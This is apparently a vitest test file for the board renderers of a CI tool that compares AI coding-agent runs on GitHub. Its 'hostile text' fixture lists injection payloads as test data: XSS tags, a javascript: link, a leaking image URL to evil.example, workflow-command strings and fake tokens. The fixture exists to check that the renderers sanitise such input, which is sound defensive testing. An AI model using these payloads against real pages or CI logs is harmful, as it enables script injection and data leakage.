/**
 * The board renderers (src/board/board.ts): golden files for a mixed matrix (comment, step
 * summary, text), the size budget up to GitHub's 256-leg matrix and far past it, the markers a
 * live board will rewrite, and hostile text in every field a leg or the jobs API gives.
 */
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import {
  BOARD_COMMENT_LIMIT,
  boardMarker,
  legRowMarker,
  renderBoardComment,
  renderBoardSummary,
  renderBoardText,
} from '../../src/board/board.js';
import { decide, parseRequire } from '../../src/board/gate.js';
import { assembleBoard, assembleLegs, type Board, type Leg } from '../../src/board/legs.js';
import { createRedactor } from '../../src/redact/redact.js';
import { expectGolden } from '../report/golden.js';
import { job, record, T0 } from './records.js';

const RUN = 'https://github.com/octo/app/actions/runs/4242';
const ctx = { marker: boardMarker('Agents compared'), runUrl: RUN };

function mixed(): Leg[] {
  return assembleLegs({
    records: [
      record({
        matrix: { agent: 'claude', model: 'sonnet' },
        runner: 'r1',
        start: 0,
        end: 95_000,
        costUsd: 0.0512,
      }),
      record({
        matrix: { agent: 'codex', model: 'o4-mini' },
        dialect: 'codex',
        agent: 'codex',
        model: 'o4-mini',
        runner: 'r2',
        start: 4_000,
        end: 130_000,
        outcome: 'max_turns',
        turns: 20,
        tools: { ok: 30, error: 2, denied: 1 },
        costUsd: null,
        reason: 'Stopped after 20 turns (max-turns 20). 3 of 5 plan items were left.',
      }),
      record({
        matrix: { agent: 'gemini', model: 'gemini-2.5-pro' },
        dialect: 'gemini',
        agent: 'gemini',
        model: 'gemini-2.5-pro',
        runner: 'r3',
        start: 2_000,
        end: 20_000,
        outcome: 'error',
        turns: null,
        tools: { ok: 1, error: 0 },
        costUsd: null,
        tokens: { input: 800, output: 20, cacheRead: 0, cacheWrite: 0 },
        durationMs: 17_500,
        reason: 'API Error: 429 Resource has been exhausted (e.g. check quota).',
      }),
    ],
    jobs: [
      job({ id: 101, name: 'agent (claude, sonnet)', runnerName: 'r1' }),
      job({ id: 102, name: 'agent (codex, o4-mini)', runnerName: 'r2', conclusion: 'failure' }),
      job({ id: 103, name: 'agent (gemini, gemini-2.5-pro)', runnerName: 'r3', conclusion: 'failure' }),
      job({
        id: 104,
        name: 'agent (opencode, gpt-5)',
        runnerName: 'r4',
        conclusion: 'failure',
        startedAt: T0 + 1_000,
        completedAt: T0 + 31_000,
      }),
      job({
        id: 105,
        name: 'agent (cursor, auto)',
        runnerName: 'r5',
        conclusion: 'cancelled',
        startedAt: T0 + 500,
        completedAt: T0 + 61_000,
      }),
    ],
  });
}

describe('golden boards', () => {
  const legs = mixed();
  const verdict = decide(legs, parseRequire('all'));

  it('the comment', () => {
    expectGolden('board/mixed.comment.md', renderBoardComment(legs, verdict, ctx));
  });
  it('the step summary, with the timeline', () => {
    expectGolden(
      'board/mixed.step-summary.md',
      renderBoardSummary(legs, verdict, {
        ...ctx,
        commentUrl: 'https://github.com/octo/app/pull/7#issuecomment-1',
      }),
    );
  });
  it('the text of `narrator aggregate`', () => {
    expectGolden('board/mixed.txt', renderBoardText(legs, verdict, { runUrl: RUN }));
  });
  it('a passing gate', () => {
    const passing = decide(legs, parseRequire('any'));
    const body = renderBoardComment(legs, passing, ctx);
    expect(body).toContain('## ✅ Narrator board · 1 of 5 legs succeeded · require any');
    expect(body).toContain('**The gate passed**: 1 of 5 legs succeeded; require any needs 1');
  });
});

/**
 * A matrix where something in leg a's job forged records (hand-written): its own record says
 * success but its job failed, it also claimed leg b (so b's job has two records), and it invented
 * a leg; one artifact was a zip bomb. The board gains the new statuses and the list of records it
 * did not count.
 */
function forged(): Board {
  const origin = (id: number, name: string, uploader: string) => ({
    id,
    name,
    uploader,
    createdAt: T0 + 2_000,
  });
  const recA = record({ matrix: { agent: 'a' }, runner: 'ra', jobId: 201 });
  const recB = record({
    matrix: { agent: 'b' },
    runner: 'rb',
    jobId: 202,
    outcome: 'error',
    reason: 'API Error: 500',
  });
  const claimB = record({ matrix: { agent: 'b' }, runner: 'rb', jobId: 202 });
  const invented = record({ matrix: { agent: 'zz' }, runner: 'rz', jobId: 999 });
  const board = assembleBoard({
    records: [
      { record: recA, origin: origin(1, 'narrator-leg-1-agent_a-aaaaaaaaaaaa', 'U-a') },
      { record: recB, origin: origin(2, 'narrator-leg-1-agent_b-bbbbbbbbbbbb', 'U-b') },
      { record: claimB, origin: origin(3, 'narrator-leg-1-agent_b-bbbbbbbbbbbb-x', 'U-c') },
      { record: invented, origin: origin(4, 'narrator-leg-1-agent_zz-cccccccccccc', 'U-d') },
    ],
    jobs: [
      job({ id: 201, name: 'agent (a)', runnerName: 'ra', conclusion: 'failure' }),
      job({ id: 202, name: 'agent (b)', runnerName: 'rb', conclusion: 'failure' }),
      job({ id: 203, name: 'agent (c)', runnerName: 'rc' }),
    ],
  });
  board.setAside.unshift({
    origin: { id: 5, name: 'narrator-leg-1-agent_c-dddddddddddd', uploader: 'U-e', createdAt: T0 },
    label: null,
    kind: 'unreadable',
    reason: 'it expands past 262144 bytes; refused without reading further',
  });
  return board;
}

describe('golden boards of forged records', () => {
  const board = forged();
  const verdict = decide(board.legs, parseRequire('any'));

  it('the comment: job failed, disputed, no record, and the records not counted', () => {
    expect(board.legs.map((l) => [l.label, l.status])).toEqual([
      ['agent (a)', 'job_failed'],
      ['agent (b)', 'disputed'],
      ['agent (c)', 'no_record'],
    ]);
    expectGolden(
      'board/forged.comment.md',
      renderBoardComment(board.legs, verdict, { ...ctx, setAside: board.setAside }),
    );
  });
  it('the text of `narrator aggregate`', () => {
    expectGolden(
      'board/forged.txt',
      renderBoardText(board.legs, verdict, { runUrl: RUN, setAside: board.setAside }),
    );
  });
  it('however many records are set aside, the board names 20 and counts the rest', () => {
    const many = Array.from({ length: 500 }, (_, i) => ({
      origin: { id: i, name: `narrator-leg-1-x-${i}`, uploader: 'U', createdAt: null },
      label: null,
      kind: 'unmatched' as const,
      reason: 'it matches no job of this run',
    }));
    const body = renderBoardComment(board.legs, verdict, { ...ctx, setAside: many });
    expect(body.match(/^- ⚠️ narrator-leg-1-x-/gm)).toHaveLength(20);
    expect(body).toContain('- …and 480 more');
  });
});

describe('markers a live board can rewrite', () => {
  it('the first line is the board marker; each leg owns the lines carrying its own marker', () => {
    const legs = mixed();
    const body = renderBoardComment(legs, decide(legs, parseRequire('all')), ctx);
    expect(body.split('\n')[0]).toBe('<!-- narrator-board:Agents compared -->');
    for (const leg of legs) {
      const own = body
        .split('\n')
        .filter((l) => l.includes(`narrator-leg:${leg.id} `) || l.includes(`narrator-leg-reason:${leg.id} `));
      // One table row, plus one reason line when the leg did not pass.
      expect(own, leg.label).toHaveLength(leg.passed ? 1 : 2);
      expect(own[0]!.startsWith(`| ${legRowMarker(leg.id)} `)).toBe(true);
    }
  });
});

/** `n` legs on a board; `failing(i)` says which fail. Long labels and reasons: the worst case. */
function many(n: number, failing: (i: number) => boolean): Leg[] {
  const records = Array.from({ length: n }, (_, i) =>
    record({
      matrix: { shard: `shard-${String(i).padStart(4, '0')}`, note: 'x'.repeat(300) },
      model: 'claude-sonnet-4-5-20250929-with-a-very-long-model-name',
      runner: `runner-${i}`,
      start: i * 1000,
      outcome: failing(i) ? 'error' : 'success',
      reason: failing(i) ? `shard ${i} failed: ${'a long reason with details '.repeat(40)}` : null,
    }),
  );
  return assembleLegs({
    records,
    jobs: records.map((r, i) =>
      job({
        name: r.label,
        runnerName: `runner-${i}`,
        startedAt: T0 + i * 1000 - 5000,
        completedAt: T0 + i * 1000 + 60_000,
      }),
    ),
  });
}

describe('the size budget', () => {
  it.each([
    ['256 legs, all failing', 256, () => true],
    ['256 legs, one in three failing', 256, (i: number) => i % 3 === 0],
    ['256 legs, all passing', 256, () => false],
    ['1 leg', 1, () => true],
  ])('%s: the comment fits and names every failing leg', (_, n, failing) => {
    const legs = many(n, failing);
    const verdict = decide(legs, parseRequire('all'));
    const body = renderBoardComment(legs, verdict, ctx);
    expect(body.length).toBeLessThanOrEqual(BOARD_COMMENT_LIMIT);
    for (const leg of legs.filter((l) => !l.passed)) {
      expect(body, leg.label.slice(0, 20)).toContain(`shard-${leg.label.slice(13, 17)}`);
    }
    expect(body).toContain('**The gate');
    // Every level keeps the step summary inside GitHub's 1 MiB.
    expect(Buffer.byteLength(renderBoardSummary(legs, verdict, ctx))).toBeLessThanOrEqual(1024 * 1024);
  });

  it('256 legs with the shortest cells still get a row each for the failures', () => {
    const legs = many(256, (i) => i % 3 === 0);
    const body = renderBoardComment(legs, decide(legs, parseRequire('all')), ctx);
    const failing = legs.filter((l) => !l.passed);
    for (const leg of failing) expect(body).toContain(legRowMarker(leg.id));
    expect(body).toMatch(/passing legs not listed/);
  });

  it('far past the matrix limit (3,000 failing legs) it still fits, and says how many it could not list', () => {
    const legs = many(3_000, () => true);
    const body = renderBoardComment(legs, decide(legs, parseRequire('all')), ctx);
    expect(body.length).toBeLessThanOrEqual(BOARD_COMMENT_LIMIT);
    expect(body).toMatch(/…and \d+ more failing legs: see the aggregate job's step summary/);
  });
});

describe('hostile text in every field', () => {
  const SECRET = 'sk-ant-api03-SECRETSECRETSECRETSECRET';
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '![pixel](https://evil.example/p.png?q=leak)',
    '@octocat',
    '#12',
    '::error::owned',
    '##[set-output name=x;]y',
    'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
    SECRET,
    '<!-- narrator-leg:deadbeefdead -->',
    '</details><script>alert(2)</script>',
    '| a | b |\n| --- |',
    '\u202Egnp.exe',
    '```\nfence',
    'click leg1 href "javascript:alert(3)"',
    '\u001b[31mred',
  ].join(' ');

  function hostileLegs(): Leg[] {
    return assembleLegs({
      records: [
        record({
          matrix: { agent: hostile },
          commentKey: hostile,
          model: hostile,
          agent: hostile.slice(0, 90),
          dialect: null,
          outcome: 'error',
          reason: hostile,
          runner: 'r1',
        }),
      ],
      jobs: [
        job({ name: `agent (${hostile})`, runnerName: 'r1' }),
        job({
          name: `agent (${hostile} 2)`,
          runnerName: 'r2',
          conclusion: 'failure',
          htmlUrl: 'javascript:alert(4)',
        }),
      ],
    });
  }
  const redact = createRedactor({ secrets: [SECRET] }).redact;

  it('the comment and the step summary render no image, tag, mention, forged marker or secret', () => {
    const legs = hostileLegs();
    const verdict = decide(legs, parseRequire('all'));
    const md = new MarkdownIt({ html: true });
    for (const body of [
      renderBoardComment(legs, verdict, { ...ctx, redact }),
      renderBoardSummary(legs, verdict, { ...ctx, redact }),
    ]) {
      expect(body).not.toContain(SECRET);
      expect(body).not.toContain('ghp_abcdefghij');
      expect(body).not.toContain('deadbeefdead -->');
      expect(body).not.toMatch(/@octocat/);
      expect(body).not.toMatch(/(^|[^\u200B])#12/);
      expect(body).not.toContain('\u202E');
      expect(body).not.toContain('\u001b');
      expect(body).not.toContain('javascript:alert(4)');
      // Exactly one row marker per leg: nothing forged one.
      expect(body.match(/<!-- narrator-leg:/g)).toHaveLength(2);
      const html = md.render(body);
      expect(html).not.toMatch(/<img|<script|<\/details>/);
      // The table still has its two rows and the totals row: no cell broke out of its row.
      const table = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
      expect(table.match(/<tr>/g)).toHaveLength(3);
    }
  });

  it('the mermaid timeline gets plain labels that cannot be read as a directive', () => {
    const legs = hostileLegs();
    const summary = renderBoardSummary(legs, decide(legs, parseRequire('all')), { ...ctx, redact });
    const gantt = /```mermaid\n([\s\S]*?)```/.exec(summary)![1]!;
    for (const line of gantt
      .split('\n')
      .filter(
        (l) =>
          l.startsWith('  ') &&
          !l.startsWith('  dateFormat') &&
          !l.startsWith('  axisFormat') &&
          !l.startsWith('  section'),
      )) {
      expect(line).toMatch(/^ {2}\d+ [^:#;`<>"'{}%\\]*:(done|crit|active), leg\d+, \d+, \d+$/);
    }
  });

  it('the text form issues no workflow command and keeps no control character', () => {
    const legs = hostileLegs();
    const out = renderBoardText(legs, decide(legs, parseRequire('all')), { redact });
    for (const line of out.split('\n')) expect(line).not.toMatch(/^\s*::/);
    expect(out).not.toContain('##[');
    expect(out).not.toContain('\u001b');
    expect(out).not.toContain(SECRET);
  });
});
